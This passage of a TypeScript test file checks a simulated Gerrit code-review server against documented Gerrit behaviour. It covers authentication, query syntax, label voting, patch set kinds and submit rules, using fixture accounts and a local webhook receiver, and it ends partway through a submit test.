/**
 * The Gerrit double (test/support/gerrit-double.ts) against what Gerrit documents, driven through
 * airlock's own client (shared/review/gerrit-rest.ts) where the client can say it, raw HTTP where
 * the wire itself is the point, and a small local receiver for the webhooks plugin's posts.
 */
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterEach, describe, expect, it } from 'vitest';
import { ReviewAuthFailedError, ReviewRefusedError, ReviewUnavailableError } from '#shared/errors.js';
import { GerritClient, gerritTime, parseGerritTime, XSSI_PREFIX, type ChangeInfo } from '#shared/review/gerrit-rest.js';
import { GerritDouble, GerritDoubleError, type GerritAccountSpec, type GerritDoubleOptions, type LabelSpec } from '../../support/gerrit-double.js';

const ACCOUNTS: GerritAccountSpec[] = [
  { id: 1000001, username: 'alice', name: 'Alice Author', email: 'alice@example.com', password: 'alice-pw' },
  { id: 1000002, username: 'bob', name: 'Bob Maintainer', email: 'bob@example.com', password: 'bob-pw', groups: ['Maintainers'] },
  { id: 1000003, username: 'ci', name: 'Airlock CI', email: 'ci@example.com', password: 'ci-pw', groups: ['CI'] },
  { id: 1000004, username: 'builder', name: 'Trusted Builder', email: 'builder@example.com', password: 'builder-pw', groups: ['Builders'] },
  { id: 1000005, username: 'nopw', name: 'No Password' },
  { id: 1000006, username: 'carol', name: 'Carol Maintainer', email: 'carol@example.com', password: 'carol-pw', groups: ['Maintainers'] },
];
const LABELS: Record<string, LabelSpec> = {
  'Code-Review': {
    values: [-2, 2],
    copyOnKinds: ['TRIVIAL_REBASE', 'NO_CHANGE'],
    copyMin: true,
    ranges: [
      { who: 'Registered Users', min: -1, max: 1 },
      { who: 'Maintainers', min: -2, max: 2 },
    ],
  },
  Verified: { values: [-2, 2], ranges: [{ who: 'CI', min: -2, max: 2 }] },
};
const P = 'team/app';

const cleanup: (() => Promise<void>)[] = [];
afterEach(async () => {
  for (const c of cleanup.splice(0).reverse()) await c();
});

async function start(o: Partial<GerritDoubleOptions> = {}): Promise<GerritDouble> {
  const g = await GerritDouble.start({ accounts: ACCOUNTS, labels: LABELS, submit: ['CI', 'Maintainers'], ...o });
  cleanup.push(() => g.close());
  g.createProject(P, { 'README.md': 'hello\n', 'app.txt': 'one\ntwo\nthree\n' });
  return g;
}

function client(g: GerritDouble, username?: string): GerritClient {
  const a = ACCOUNTS.find((x) => x.username === username);
  return new GerritClient({ url: g.url, ...(username ? { credentials: { username, password: a?.password ?? 'x' } } : {}), timeoutMs: 10_000 });
}

function basic(username: string): string {
  const a = ACCOUNTS.find((x) => x.username === username);
  return `Basic ${Buffer.from(`${username}:${a?.password ?? ''}`).toString('base64')}`;
}

async function raw(g: GerritDouble, path: string, init: RequestInit & { as?: string } = {}): Promise<{ status: number; text: string; headers: Headers; json: () => unknown }> {
  const headers = new Headers(init.headers);
  if (init.as) headers.set('authorization', basic(init.as));
  const res = await fetch(`${g.url}${path}`, { ...init, headers });
  const text = await res.text();
  return { status: res.status, text, headers: res.headers, json: () => JSON.parse(text.slice(XSSI_PREFIX.length)) as unknown };
}

/** Approves a change fully: Code-Review +2 by bob, Verified +2 by ci. */
function approve(g: GerritDouble, n: number): void {
  g.review(n, 'bob', { labels: { 'Code-Review': 2 } });
  g.review(n, 'ci', { labels: { Verified: 2 } });
}

interface Received {
  headers: IncomingHttpHeaders;
  body: string;
  json: Record<string, unknown>;
}

/** A webhook receiver; `answer` picks the status (and headers) per request. */
async function receiver(answer: (r: Received, i: number) => number | { status: number; headers?: Record<string, string> } = () => 200): Promise<{ url: string; got: Received[]; close: () => Promise<void> }> {
  const got: Received[] = [];
  const server: Server = createServer((req, res) => {
    const chunks: Buffer[] = [];
    req.on('data', (c: Buffer) => chunks.push(c));
    req.on('end', () => {
      const body = Buffer.concat(chunks).toString('utf8');
      const r: Received = { headers: req.headers, body, json: JSON.parse(body) as Record<string, unknown> };
      got.push(r);
      const a = answer(r, got.length - 1);
      const { status, headers } = typeof a === 'number' ? { status: a, headers: {} } : a;
      res.writeHead(status, headers);
      res.end();
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', () => resolve()));
  const close = (): Promise<void> => new Promise((resolve) => server.close(() => resolve()));
  cleanup.push(close);
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/hooks/gerrit/s3cret`, got, close };
}

const ofType = (g: GerritDouble, type: string): Record<string, unknown>[] => g.events.filter((e) => e.type === type).map((e) => e.body as Record<string, unknown>);
const get = (o: unknown, ...path: (string | number)[]): unknown => path.reduce<unknown>((x, k) => (x !== null && typeof x === 'object' ? (x as Record<string | number, unknown>)[k] : undefined), o);

describe('REST basics', () => {
  it('authenticates /a/ with HTTP passwords: 401 without, with a wrong one, or for an account without one', async () => {
    const g = await start();
    const none = await raw(g, '/a/accounts/self');
    expect(none.status).toBe(401);
    expect(none.headers.get('www-authenticate')).toBe('Basic realm="Gerrit Code Review"');
    await expect(new GerritClient({ url: g.url, credentials: { username: 'alice', password: 'wrong' } }).self()).rejects.toBeInstanceOf(ReviewAuthFailedError);
    expect((await raw(g, '/a/accounts/self', { headers: { authorization: `Basic ${Buffer.from('nopw:').toString('base64')}` } })).status).toBe(401);
    expect(await client(g, 'bob').self()).toEqual({ _account_id: 1000002, name: 'Bob Maintainer', email: 'bob@example.com', username: 'bob' });
    expect(g.requests.map((r) => [r.path, r.status, r.user])).toEqual([
      ['/accounts/self', 401, undefined],
      ['/accounts/self', 401, undefined],
      ['/accounts/self', 401, undefined],
      ['/accounts/self', 200, 'bob'],
    ]);
  });

  it("prefixes JSON with )]}' and a newline, and answers errors in plain text", async () => {
    const g = await start();
    const ok = await raw(g, '/a/accounts/self', { as: 'alice', headers: { accept: 'application/json' } });
    expect(ok.text.startsWith(")]}'\n{")).toBe(true);
    expect(ok.headers.get('content-type')).toBe('application/json; charset=UTF-8');
    expect(ok.json()).toMatchObject({ username: 'alice' });
    const missing = await raw(g, '/a/changes/nope', { as: 'alice' });
    expect([missing.status, missing.text, missing.headers.get('content-type')]).toEqual([404, 'Not found: nope\n', 'text/plain; charset=UTF-8']);
    // A read whose error text might be HTML gets it as a JSON string instead.
    const html = await raw(g, '/a/changes/a%3Cb', { as: 'alice' });
    expect([html.status, html.text, html.headers.get('content-type')]).toEqual([404, ')]}\'\n"Not found: a\u003cb"\n', 'application/json; charset=UTF-8']);
  });

  it('serves anonymous reads without /a/ but refuses anonymous writes and self', async () => {
    const g = await start();
    const { number } = g.upload({ project: P, owner: 'alice', files: { 'a.txt': 'A\n' } });
    const anon = client(g);
    expect((await anon.change(P, number, []))?._number).toBe(number);
    await expect(anon.self()).rejects.toMatchObject({ status: 403 }); // Gerrit: 403 for `self` without authentication
    const post = await raw(g, `/changes/${number}/revisions/current/review`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"message":"hi"}' });
    expect([post.status, post.text]).toEqual([403, 'Authentication required\n']);
  });

  it('takes JSON bodies only, of at most 1 MiB', async () => {
    const g = await start();
    const { number } = g.upload({ project: P, owner: 'alice', files: { 'a.txt': 'A\n' } });
    const path = `/a/changes/${number}/revisions/current/review`;
    expect((await raw(g, path, { as: 'bob', method: 'POST', headers: { 'content-type': 'text/plain' }, body: 'hello' })).status).toBe(400);
    expect((await raw(g, path, { as: 'bob', method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"message": ' })).status).toBe(400);
    const big = JSON.stringify({ message: 'x'.repeat(1024 * 1024) });
    expect((await raw(g, path, { as: 'bob', method: 'POST', headers: { 'content-type': 'application/json' }, body: big })).status).toBe(413);
  });
});

describe('changes', () => {
  it('names a change by project~number (slash encoded), number, Change-Id or triplet; 404 otherwise', async () => {
    const g = await start();
    const up = g.upload({ project: P, owner: 'alice', subject: 'Add a', files: { 'a.txt': 'A\n' } });
    const info = await client(g, 'bob').change(P, up.number, []);
    expect(info).toMatchObject({ id: `team%2Fapp~${up.number}`, triplet_id: `team%2Fapp~master~${up.changeId}`, project: P, branch: 'master', change_id: up.changeId, subject: 'Add a', status: 'NEW' });
    for (const id of [String(up.number), up.changeId, `team%2Fapp~master~${up.changeId}`, `team%2Fapp~refs%2Fheads%2Fmaster~${up.changeId}`]) {
      expect((await raw(g, `/a/changes/${id}`, { as: 'bob' })).json()).toMatchObject({ _number: up.number });
    }
    expect(g.requests.slice(-4).map((r) => r.path)).toContain(`/changes/team%2Fapp~master~${up.changeId}`);
    expect(await client(g, 'bob').change('other', up.number, [])).toBeUndefined();
    expect(await client(g, 'bob').change(P, 999, [])).toBeUndefined();
  });

  it('answers only what the o= options ask for, in the shapes the client parses', async () => {
    const g = await start();
    const tip = g.branchTip(P);
    const up = g.upload({ project: P, owner: 'alice', subject: 'Add a', files: { 'a.txt': 'A\nB\n' } });
    const bob = client(g, 'bob');
    const bare = (await bob.change(P, up.number, [])) as ChangeInfo;
    expect(bare.revisions).toBeUndefined();
    expect(bare.current_revision).toBeUndefined();
    expect(bare.labels).toBeUndefined();
    expect(bare.owner).toEqual({ _account_id: 1000001 });
    expect(bare.updated).toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2}\.\d{9}$/);
    expect(bare.work_in_progress).toBeUndefined();

    const cur = (await bob.change(P, up.number, ['CURRENT_REVISION'])) as ChangeInfo;
    expect(cur.current_revision).toBe(up.sha);
    expect(Object.keys(cur.revisions ?? {})).toEqual([up.sha]);
    expect(cur.revisions?.[up.sha]).toMatchObject({ _number: 1, kind: 'REWORK', ref: up.ref, uploader: { _account_id: 1000001 } });
    expect(cur.revisions?.[up.sha]?.commit).toBeUndefined();

    const commit = (await bob.change(P, up.number, ['CURRENT_REVISION', 'CURRENT_COMMIT', 'DETAILED_ACCOUNTS'])) as ChangeInfo;
    const c = commit.revisions?.[up.sha]?.commit;
    expect(c).toMatchObject({ subject: 'Add a', parents: [{ commit: tip, subject: 'Initial commit' }] });
    expect(c?.commit).toBeUndefined(); // not set inside a map keyed by the commit id
    expect(c?.message).toBe(`Add a\n\nChange-Id: ${up.changeId}\n`);
    expect(commit.owner).toEqual({ _account_id: 1000001, name: 'Alice Author', email: 'alice@example.com', username: 'alice' });
    expect(commit.revisions?.[up.sha]?.uploader?.username).toBe('alice');

    const ps2 = g.upload({ project: P, owner: 'alice', change: up.number, files: { 'a.txt': 'A2\n' } });
    const all = (await bob.change(P, up.number, ['ALL_REVISIONS', 'CURRENT_COMMIT'])) as ChangeInfo;
    expect(Object.keys(all.revisions ?? {}).sort()).toEqual([up.sha, ps2.sha].sort());
    expect(all.revisions?.[up.sha]?.commit).toBeUndefined();
    expect(all.revisions?.[ps2.sha]?.commit).toBeDefined();
    const allCommits = (await bob.change(P, up.number, ['ALL_REVISIONS', 'ALL_COMMITS'])) as ChangeInfo;
    expect(Object.values(allCommits.revisions ?? {}).every((r) => r.commit !== undefined)).toBe(true);

    g.review(up.number, 'bob', { message: 'Looks fine' });
    const messages = (await raw(g, `/a/changes/${up.number}?o=MESSAGES`, { as: 'bob' })).json() as { messages: { message: string; _revision_number: number }[] };
    expect(messages.messages.map((m) => [m.message, m._revision_number])).toEqual([
      ['Uploaded patch set 1.', 1],
      ['Uploaded patch set 2.', 2],
      ['Patch Set 2:\n\nLooks fine', 2],
    ]);
    const bad = await raw(g, `/a/changes/${up.number}?o=EVERYTHING`, { as: 'bob' });
    expect([bad.status, bad.text]).toEqual([400, '"EVERYTHING" is not a valid value for "-o"\n']);
  });

  it('LABELS summarises the current votes; DETAILED_LABELS lists every voter with value, date and permitted range', async () => {
    const g = await start();
    const { number } = g.upload({ project: P, owner: 'alice', files: { 'a.txt': 'A\n' } });
    g.review(number, 'bob', { labels: { 'Code-Review': 2 } });
    g.review(number, 'ci', { labels: { Verified: -1 } });
    const bob = client(g, 'bob');
    const summary = (await bob.change(P, number, ['LABELS']))?.labels;
    expect(summary?.['Code-Review']).toEqual({ approved: { _account_id: 1000002 } });
    expect(summary?.Verified).toEqual({ disliked: { _account_id: 1000003 }, value: -1 });
    g.review(number, 'ci', { labels: { Verified: -2 } });
    expect((await bob.change(P, number, ['LABELS']))?.labels?.Verified).toEqual({ rejected: { _account_id: 1000003 }, blocking: true });

    const detailed = (await bob.change(P, number, ['DETAILED_LABELS', 'DETAILED_ACCOUNTS']))?.labels;
    const cr = detailed?.['Code-Review'];
    expect(cr?.values).toEqual({ '-2': 'This shall not be submitted', '-1': 'I would prefer this is not submitted as is', ' 0': 'No score', '+1': 'Looks good to me, but someone else must approve', '+2': 'Looks good to me, approved' });
    expect(cr?.default_value).toBe(0);
    expect(cr?.approved).toBeUndefined();
    expect(cr?.all?.map((a) => [a.username, a.value, a.permitted_voting_range])).toEqual([
      ['bob', 2, { min: -2, max: 2 }],
      ['ci', 0, { min: -1, max: 1 }],
    ]);
    expect(cr?.all?.[0]?.date).toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2}\.\d{9}$/);
    // bob may not vote Verified: no value, no range.
    expect(detailed?.Verified?.all?.map((a) => [a.username, a.value, a.permitted_voting_range])).toEqual([
      ['bob', undefined, undefined],
      ['ci', -2, { min: -2, max: 2 }],
    ]);
  });

  it('SUBMITTABLE on request; work_in_progress and is_private only when true', async () => {
    const g = await start();
    const { number } = g.upload({ project: P, owner: 'alice', files: { 'a.txt': 'A\n' }, wip: true });
    const alice = client(g, 'alice');
    expect(await alice.change(P, number, ['SUBMITTABLE'])).toMatchObject({ submittable: false, work_in_progress: true });
    approve(g, number);
    expect((await alice.change(P, number, ['SUBMITTABLE']))?.submittable).toBe(true);
    g.setWip(number, 'alice', false);
    g.setPrivate(number, 'alice', true);
    const info = await alice.change(P, number, []);
    expect(info?.work_in_progress).toBeUndefined();
    expect(info?.is_private).toBe(true);
    expect(info?.submittable).toBeUndefined();
  });

  it('a private change is visible to its owner and its reviewers only', async () => {
    const g = await start();
    const { number } = g.upload({ project: P, owner: 'alice', files: { 'a.txt': 'A\n' } });
    g.review(number, 'bob', { labels: { 'Code-Review': 1 } }); // bob becomes a reviewer
    g.review(number, 'carol', { message: 'following' }); // carol is CC'd
    g.setPrivate(number, 'alice', true);
    expect(await client(g, 'builder').change(P, number, [])).toBeUndefined();
    expect(await client(g, 'builder').query('status:open', [])).toEqual([]);
    expect(await client(g).change(P, number, [])).toBeUndefined();
    expect(() => g.review(number, 'builder', { message: 'hi' })).toThrow(`Not found: ${number}`);
    for (const who of ['alice', 'bob', 'carol']) expect((await client(g, who).change(P, number, []))?.is_private).toBe(true);
    expect((await client(g, 'bob').query('is:private', [])).map((c) => c._number)).toEqual([number]);
    expect(ofType(g, 'private-state-changed')).toHaveLength(1); // the webhooks plugin does not filter by visibility
  });

  it('uploading a commit whose Change-Id names an open change makes a new patch set of it', async () => {
    const g = await start();
    const up = g.upload({ project: P, owner: 'alice', subject: 'Add a', files: { 'a.txt': 'A\n' } });
    const amended = g.writeCommit(P, { 'a.txt': 'A, amended\n' }, { message: `Add a\n\nChange-Id: ${up.changeId}\n` });
    const ps2 = g.upload({ project: P, owner: 'bob', commit: amended });
    expect(ps2).toMatchObject({ number: up.number, patchset: 2, sha: amended, changeId: up.changeId, kind: 'REWORK' });
    expect(g.changeState(up.number).revisions.map((r) => r.uploader)).toEqual(['alice', 'bob']);
    const fresh = g.upload({ project: P, owner: 'bob', commit: g.writeCommit(P, { 'b.txt': 'B\n' }, { message: 'No footer\n' }) });
    expect(fresh.number).not.toBe(up.number);
  });
});

describe('query', () => {
  it('status, project, branch, owner, change, commit (any patch set), is:wip, is:private, -, OR and parentheses', async () => {
    const g = await start();
    g.createProject('other', { 'x.txt': 'x\n' });
    g.directPush(P, 'stable', {}, { parent: g.branchTip(P) });
    const a = g.upload({ project: P, owner: 'alice', files: { 'a.txt': 'A\n' } });
    const a2 = g.upload({ project: P, owner: 'alice', change: a.number, files: { 'a.txt': 'A2\n' } });
    const b = g.upload({ project: P, owner: 'bob', branch: 'stable', files: { 'b.txt': 'B\n' }, wip: true });
    const c = g.upload({ project: 'other', owner: 'alice', files: { 'c.txt': 'C\n' } });
    const d = g.upload({ project: P, owner: 'bob', files: { 'd.txt': 'D\n' }, private: true });
    const e = g.upload({ project: P, owner: 'alice', files: { 'e.txt': 'E\n' } });
    g.abandon(e.number, 'alice');
    const bob = client(g, 'bob');
    const q = async (query: string): Promise<number[]> => (await bob.query(query, [])).map((x) => x._number).sort((x, y) => x - y);
    expect(await q('status:open')).toEqual([a.number, b.number, c.number, d.number]);
    expect(await q('status:abandoned')).toEqual([e.number]);
    expect(await q(`project:${P} status:open`)).toEqual([a.number, b.number, d.number]);
    expect(await q('branch:stable')).toEqual([b.number]);
    expect(await q('branch:refs/heads/stable')).toEqual([b.number]);
    expect(await q('owner:bob')).toEqual([b.number, d.number]);
    expect(await q(`change:${c.number}`)).toEqual([c.number]);
    expect(await q(`change:${a.changeId}`)).toEqual([a.number]);
    expect(await q(`commit:${a.sha}`)).toEqual([a.number]); // an outdated patch set still finds its change
    expect(await q(`commit:${a2.sha.slice(0, 8)}`)).toEqual([a.number]);
    expect(await q('is:wip')).toEqual([b.number]);
    expect(await q('status:open -is:wip')).toEqual([a.number, c.number, d.number]);
    expect(await q('is:private')).toEqual([d.number]);
    expect(await client(g, 'alice').query('is:private', [])).toEqual([]); // d is bob's and private
    expect(await q(`project:other OR branch:stable`)).toEqual([b.number, c.number]);
    expect(await q(`status:open (project:other OR branch:stable) -is:wip`)).toEqual([c.number]);
    expect(await q(`NOT project:${P}`)).toEqual([c.number]);
  });

  it('after:/since: are inclusive and compare with updated, in UTC', async () => {
    const g = await start();
    const a = g.upload({ project: P, owner: 'alice', files: { 'a.txt': 'A\n' } });
    const b = g.upload({ project: P, owner: 'alice', files: { 'b.txt': 'B\n' } });
    const bob = client(g, 'bob');
    const updatedA = parseGerritTime((await bob.change(P, a.number, []))?.updated ?? '');
    const updatedB = parseGerritTime((await bob.change(P, b.number, []))?.updated ?? '');
    expect(updatedB).toBeGreaterThan(updatedA);
    const q = async (query: string): Promise<number[]> => (await bob.query(query, [])).map((x) => x._number);
    expect(await q(`after:"${gerritTime(updatedA)}"`)).toEqual([b.number, a.number]);
    expect(await q(`since:"${gerritTime(updatedB)}"`)).toEqual([b.number]);
    expect(await q(`after:"${gerritTime(updatedB + 1)}"`)).toEqual([]);
    expect(await q(`before:"${gerritTime(updatedA)}"`)).toEqual([a.number]);
    g.review(a.number, 'bob', { message: 'touch' }); // a review updates the change
    expect(await q(`after:"${gerritTime(updatedB + 1)}"`)).toEqual([a.number]);
    expect(await q(`after:${new Date(updatedA).toISOString().slice(0, 10)}`)).toHaveLength(2);
  });

  it('sorts by updated, newest first, and pages with n and S, marking the last of a page with _more_changes', async () => {
    const g = await start();
    const made = [1, 2, 3, 4, 5].map((i) => g.upload({ project: P, owner: 'alice', files: { [`f${i}.txt`]: `${i}\n` } }).number);
    g.review(made[1] ?? 0, 'bob', { message: 'bump' });
    const expected = [made[1], made[4], made[3], made[2], made[0]];
    const page = (await raw(g, '/a/changes/?q=status:open&n=2', { as: 'bob' })).json() as ChangeInfo[];
    expect(page.map((c) => [c._number, c._more_changes])).toEqual([
      [expected[0], undefined],
      [expected[1], true],
    ]);
    const tail = (await raw(g, '/a/changes/?q=status:open&n=2&S=4', { as: 'bob' })).json() as ChangeInfo[];
    expect(tail.map((c) => [c._number, c._more_changes])).toEqual([[expected[4], undefined]]);
    const before = g.requests.length;
    expect((await client(g, 'bob').query('status:open', [], { limit: 2 })).map((c) => c._number)).toEqual(expected);
    expect(g.requests.slice(before).map((r) => new URLSearchParams(r.query).get('S'))).toEqual(['0', '2', '4']);
  });

  it("unknown operators and bad syntax are a 400 in Gerrit's words", async () => {
    const g = await start();
    const bob = client(g, 'bob');
    const refused = async (q: string): Promise<ReviewRefusedError> => {
      const e: unknown = await bob.query(q, []).catch((x: unknown) => x);
      expect(e).toBeInstanceOf(ReviewRefusedError);
      return e as ReviewRefusedError;
    };
    const unknown = await refused('status:open foo:bar');
    expect(unknown.status).toBe(400);
    expect(unknown.message).toContain('Unsupported operator foo:bar');
    expect((await refused('after:"yesterday"')).message).toContain('Unrecognized date: yesterday');
    expect((await refused('status:sleeping')).message).toContain('Unrecognized value: sleeping');
    expect((await refused('(status:open')).status).toBe(400);
  });
});

describe('review', () => {
  it('votes within the permitted range; outside it is a 403 "is restricted"', async () => {
    const g = await start();
    const up = g.upload({ project: P, owner: 'alice', files: { 'a.txt': 'A\n' } });
    const alice = client(g, 'alice');
    const e: unknown = await alice.review(P, up.number, 'current', { labels: { 'Code-Review': 2 } }).catch((x: unknown) => x);
    expect(e).toBeInstanceOf(ReviewRefusedError);
    expect((e as ReviewRefusedError).status).toBe(403); // an AuthException in Gerrit, not a 400
    expect((e as Error).message).toContain('Applying label "Code-Review": 2 is restricted');
    await expect(alice.review(P, up.number, 'current', { labels: { Verified: 1 } })).rejects.toThrow('Applying label "Verified": 1 is restricted');
    await alice.review(P, up.number, up.sha, { labels: { 'Code-Review': 1 } });
    await client(g, 'ci').review(P, up.number, '1', { labels: { Verified: 2 }, tag: 'autogenerated:airlock' });
    const res = await raw(g, `/a/changes/${up.number}/revisions/${up.sha.slice(0, 7)}/review`, { as: 'bob', method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"labels":{"Code-Review":2}}' });
    expect(res.status).toBe(200);
    expect(get(res.json(), 'labels')).toEqual({ 'Code-Review': 2 });
    expect(g.changeState(up.number).votes).toEqual({ 'Code-Review': { alice: 1, bob: 2 }, Verified: { ci: 2 } });
    const ci = (await client(g, 'bob').change(P, up.number, ['DETAILED_LABELS', 'DETAILED_ACCOUNTS']))?.labels?.Verified?.all?.find((a) => a.username === 'ci');
    expect(ci?.tag).toBe('autogenerated:airlock');
    expect((await raw(g, `/a/changes/${up.number}/revisions/7/review`, { as: 'bob', method: 'POST', headers: { 'content-type': 'application/json' }, body: '{}' })).status).toBe(404);
  });

  it('drops unknown labels and values, unless strictLabels makes them a 400', async () => {
    const g = await start();
    const { number } = g.upload({ project: P, owner: 'alice', files: { 'a.txt': 'A\n' } });
    const res = await raw(g, `/a/changes/${number}/revisions/current/review`, { as: 'ci', method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"labels":{"Foo":1,"Verified":5,"verified":1,"Code-Review":-1}}' });
    expect(res.status).toBe(200);
    expect(get(res.json(), 'labels')).toEqual({ 'Code-Review': -1 }); // label names are exact
    expect(g.changeState(number).votes).toEqual({ 'Code-Review': { ci: -1 } });
    const strict = await start({ strictLabels: true });
    const s = strict.upload({ project: P, owner: 'alice', files: { 'a.txt': 'A\n' } });
    const ci = client(strict, 'ci');
    await expect(ci.review(P, s.number, 'current', { labels: { Foo: 1 } })).rejects.toThrow('label "Foo" is not a configured label');
    await expect(ci.review(P, s.number, 'current', { labels: { Verified: 5 } })).rejects.toThrow('label "Verified": 5 is not a valid value');
  });

  it("comment-added carries the author's full set of votes as strings, oldValue only where this review changed one", async () => {
    const g = await start();
    const { number } = g.upload({ project: P, owner: 'alice', files: { 'a.txt': 'A\n' } });
    const ci = client(g, 'ci');
    await ci.review(P, number, 'current', { labels: { Verified: 1 }, message: 'Build ok' });
    await ci.review(P, number, 'current', { labels: { Verified: -1, 'Code-Review': 1 } });
    await ci.review(P, number, 'current', { message: '  just a note  ' });
    await ci.review(P, number, 'current', {}); // nothing: no message, no event
    const events = ofType(g, 'comment-added');
    expect(events.map((e) => [e.comment, e.approvals])).toEqual([
      [
        'Patch Set 1: Verified+1\n\nBuild ok',
        [
          { type: 'Code-Review', description: 'Code-Review', value: '0' },
          { type: 'Verified', description: 'Verified', value: '1', oldValue: '0' },
        ],
      ],
      [
        'Patch Set 1: Code-Review+1 Verified-1',
        [
          { type: 'Code-Review', description: 'Code-Review', value: '1', oldValue: '0' },
          { type: 'Verified', description: 'Verified', value: '-1', oldValue: '1' },
        ],
      ],
      [
        'Patch Set 1:\n\njust a note',
        [
          { type: 'Code-Review', description: 'Code-Review', value: '1' },
          { type: 'Verified', description: 'Verified', value: '-1' },
        ],
      ],
    ]);
    expect(events[0]?.author).toEqual({ name: 'Airlock CI', email: 'ci@example.com', username: 'ci' });
    await ci.review(P, number, 'current', { labels: { 'Code-Review': 0 } });
    expect(ofType(g, 'comment-added').at(-1)?.comment).toBe('Patch Set 1: -Code-Review');
  });

  it('closed changes: abandoned ones refuse votes but take messages; merged ones take a raised vote, not a lowered one', async () => {
    const g = await start();
    const a = g.upload({ project: P, owner: 'alice', files: { 'a.txt': 'A\n' } });
    g.abandon(a.number, 'alice', 'not needed');
    const ci = client(g, 'ci');
    const e: unknown = await ci.review(P, a.number, 'current', { labels: { Verified: 1 } }).catch((x: unknown) => x);
    expect(e).toBeInstanceOf(ReviewRefusedError);
    expect([(e as ReviewRefusedError).status, (e as Error).message]).toEqual([409, expect.stringContaining('change is closed')]);
    await ci.review(P, a.number, 'current', { message: 'noted' });

    const b = g.upload({ project: P, owner: 'alice', files: { 'b.txt': 'B\n' } });
    g.review(b.number, 'bob', { labels: { 'Code-Review': 2 } });
    g.review(b.number, 'ci', { labels: { Verified: 1 } });
    g.review(b.number, 'ci', { labels: { Verified: 2 } });
    g.submitAs(b.number, 'ci');
    expect(() => g.review(b.number, 'bob', { labels: { 'Code-Review': 1 } })).toThrow('Cannot reduce vote on labels for closed change: Code-Review');
    g.review(b.number, 'alice', { labels: { 'Code-Review': 1 } }); // a new, non-lowering vote after submit
    const all = (await client(g, 'bob').change(P, b.number, ['DETAILED_LABELS', 'DETAILED_ACCOUNTS']))?.labels?.['Code-Review']?.all;
    expect(all?.find((x) => x.username === 'alice')).toMatchObject({ value: 1, post_submit: true });
  });

  it('a vote on an outdated patch set stays there and is copied forward where the label allows it', async () => {
    const g = await start();
    const up = g.upload({ project: P, owner: 'alice', files: { 'a.txt': 'A\n' } });
    g.directPush(P, 'master', { 'other.txt': 'x\n' });
    const ps2 = g.upload({ project: P, owner: 'alice', change: up.number }); // a rebase
    expect(ps2.kind).toBe('TRIVIAL_REBASE');
    g.review(up.number, 'bob', { labels: { 'Code-Review': 2 }, revision: '1' });
    expect(g.changeState(up.number).votes).toEqual({ 'Code-Review': { bob: 2 } });
    expect(ofType(g, 'comment-added').at(-1)?.comment).toBe('Patch Set 1: Code-Review+2\n\nCopied votes on follow-up patch sets have been updated:\n* Code-Review+2 has been copied to patch set 2.');
    g.upload({ project: P, owner: 'alice', change: up.number, files: { 'a.txt': 'changed\n' } }); // rework
    g.review(up.number, 'carol', { labels: { 'Code-Review': 1 }, revision: '2' });
    expect(g.changeState(up.number).votes).toEqual({});
  });
});

describe('patch set kinds and vote copying', () => {
  it('NO_CHANGE, NO_CODE_CHANGE, TRIVIAL_REBASE and REWORK, by the prior patch set', async () => {
    const g = await start();
    const up = g.upload({ project: P, owner: 'alice', subject: 'Add a', files: { 'a.txt': 'A\n' } });
    const again = (o: { subject?: string; files?: Record<string, string | null> } = {}): string => g.upload({ project: P, owner: 'alice', change: up.number, ...o }).kind;
    expect(again({ files: { 'a.txt': 'A\n' } })).toBe('NO_CHANGE'); // same tree, parent and message: a new commit all the same
    expect(again({ subject: 'Add a, better said', files: { 'a.txt': 'A\n' } })).toBe('NO_CODE_CHANGE');
    g.directPush(P, 'master', { 'other.txt': 'x\n' });
    expect(again()).toBe('TRIVIAL_REBASE');
    g.directPush(P, 'master', { 'more.txt': 'y\n' });
    expect(again({ subject: 'Rebased with a new message' })).toBe('REWORK'); // a message change makes a rebase a rework
    expect(again({ files: { 'a.txt': 'A2\n' } })).toBe('REWORK');
    expect(g.changeState(up.number).revisions.map((r) => r.kind)).toEqual(['REWORK', 'NO_CHANGE', 'NO_CODE_CHANGE', 'TRIVIAL_REBASE', 'REWORK', 'REWORK']);
    expect(() => g.upload({ project: P, owner: 'alice', change: up.number, commit: g.changeState(up.number).revisions[0]?.sha ?? '' })).toThrow('no new changes');
  });

  it('copies Code-Review +2 over a trivial rebase and -2 always, Verified never', async () => {
    const g = await start();
    const up = g.upload({ project: P, owner: 'alice', files: { 'a.txt': 'A\n' } });
    approve(g, up.number);
    g.directPush(P, 'master', { 'other.txt': 'x\n' });
    g.upload({ project: P, owner: 'alice', change: up.number });
    expect(g.changeState(up.number).votes).toEqual({ 'Code-Review': { bob: 2 } });
    const labels = (await client(g, 'bob').change(P, up.number, ['DETAILED_LABELS', 'DETAILED_ACCOUNTS']))?.labels;
    expect(labels?.['Code-Review']?.all?.find((a) => a.username === 'bob')?.value).toBe(2);
    g.upload({ project: P, owner: 'alice', change: up.number, files: { 'a.txt': 'A2\n' } });
    expect(g.changeState(up.number).votes).toEqual({});
    g.review(up.number, 'carol', { labels: { 'Code-Review': -2 } });
    g.review(up.number, 'bob', { labels: { 'Code-Review': 2 } });
    g.upload({ project: P, owner: 'alice', change: up.number, files: { 'a.txt': 'A3\n' } });
    expect(g.changeState(up.number).votes).toEqual({ 'Code-Review': { carol: -2 } });
  });
});

describe('submit', () => {
  it('needs Code-Review +2 and Verified +2 from someone, and no -2', async () => {
    const g = await start();
    const { number } = g.upload({ project: P, owner: 'alice', files: { 'a.txt': 'A\n' } });
    const ci = client(g, 'ci');
    const refusal = async (): Promise<string> => {
      const e: unknown = await ci.submit(P, number, 'current').catch((x: unknown) => x);
      expect(e).toBeInstanceOf(ReviewRefusedError);
      expect((e as ReviewRefusedError).status).toBe(409);
      return (e as Error).message;
    };
    expect(await refusal()).toContain(`Failed to submit 1 change due to the following problems:\nChange ${number}: needs Code-Review; needs Verified`);
    g.review(number, 'bob', { labels: { 'Code-Review': 2 } });
    g.review(number, 'ci', { labels: { Verified: 1 } });
    expect(await refusal()).toContain(`Change ${number}: needs Verified`);
    g.review(number, 'ci', { labels: { Verified: 2 } });
    g.review(number, 'carol', { labels: { 'Code-Review': -2 } });
